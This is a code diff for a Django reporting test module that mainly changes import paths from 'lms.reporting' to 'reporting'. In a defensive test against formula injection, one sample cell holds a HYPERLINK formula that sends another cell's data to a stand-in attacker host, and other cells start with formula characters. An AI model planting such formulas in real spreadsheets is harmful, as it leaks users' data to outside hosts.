@@ -13,9 +13,9 @@ from django.urls import reverse
 from django.utils import timezone
 
 from lms.organisations.models import Requirement, Target
-from lms.reporting import queries
-from lms.reporting.models import ExportJob
-from lms.reporting.queries import COLUMN_HEADERS, Filters
+from reporting import queries
+from reporting.models import ExportJob
+from reporting.queries import COLUMN_HEADERS, Filters
 
 
 @pytest.fixture(autouse=True)
@@ -249,7 +249,7 @@ def test_large_export_runs_as_a_job(client, world, manager_a, manager_b, setting
 
 
 def test_job_progress_is_saved_while_running(world, manager_a, monkeypatch):
-    from lms.reporting import services
+    from reporting import services
 
     monkeypatch.setattr(services, "PROGRESS_EVERY", 1)
     seen = []
@@ -271,8 +271,8 @@ def test_job_progress_is_saved_while_running(world, manager_a, monkeypatch):
 
 
 def test_retention_purge(world, manager_a):
-    from lms.reporting.jobs import purge_expired_exports
-    from lms.reporting.services import export_job_run
+    from reporting.jobs import purge_expired_exports
+    from reporting.services import export_job_run
 
     job = ExportJob.objects.create(owner=manager_a, format="csv", params=Filters().to_params())
     job = export_job_run(job_id=job.pk)
@@ -285,7 +285,7 @@ def test_retention_purge(world, manager_a):
 
 
 def test_expired_job_cannot_be_downloaded(client, world, manager_a):
-    from lms.reporting.services import export_job_run
+    from reporting.services import export_job_run
 
     job = export_job_run(job_id=ExportJob.objects.create(owner=manager_a, params=Filters().to_params()).pk)
     client.force_login(manager_a)
@@ -295,7 +295,7 @@ def test_expired_job_cannot_be_downloaded(client, world, manager_a):
 
 
 def test_periodic_job_is_registered(settings):
-    assert ("lms.reporting.jobs.purge_expired_exports", 3600) in settings.PERIODIC_JOBS
+    assert ("reporting.jobs.purge_expired_exports", 3600) in settings.PERIODIC_JOBS
 
 
 @pytest.mark.parametrize("value,expected", [
@@ -372,7 +372,7 @@ def test_export_cells_are_never_spreadsheet_formulas(tmp_path):
 
     from openpyxl import load_workbook
 
-    from lms.reporting.exports import csv_lines, write_xlsx
+    from reporting.exports import csv_lines, write_xlsx
 
     title = '=HYPERLINK("http://evil.example/?"&C2,"Bấm")'
     row = ["C-A1", "Phường Một", "Nguyễn Thị Lan", "=1+1@example.vn", "+84912000123", "@SUM(A1)", title,
